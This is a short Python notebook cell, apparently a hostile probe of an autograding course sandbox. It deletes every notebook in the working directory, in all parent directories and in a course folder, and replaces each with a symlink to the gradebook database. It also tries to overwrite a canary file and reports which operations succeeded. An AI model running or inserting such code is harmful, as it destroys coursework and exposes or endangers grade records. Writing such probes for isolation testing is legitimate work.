# An extra cell: replace every notebook it can find with a link to the gradebook, and write into the course.
import pathlib

report = {}
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path(COURSE)]:
    for notebook in folder.glob("*.ipynb"):
        try:
            notebook.unlink()
            notebook.symlink_to(pathlib.Path(COURSE) / "gradebook.db")
            report[str(notebook)] = "linked"
        except OSError as exc:
            report[str(notebook)] = type(exc).__name__
for target in [pathlib.Path(COURSE) / "canary.txt", pathlib.Path(COURSE) / "new_file.txt"]:
    try:
        target.write_text("overwritten")
        report[str(target)] = "written"
    except OSError as exc:
        report[str(target)] = type(exc).__name__
print("LINKS", report)
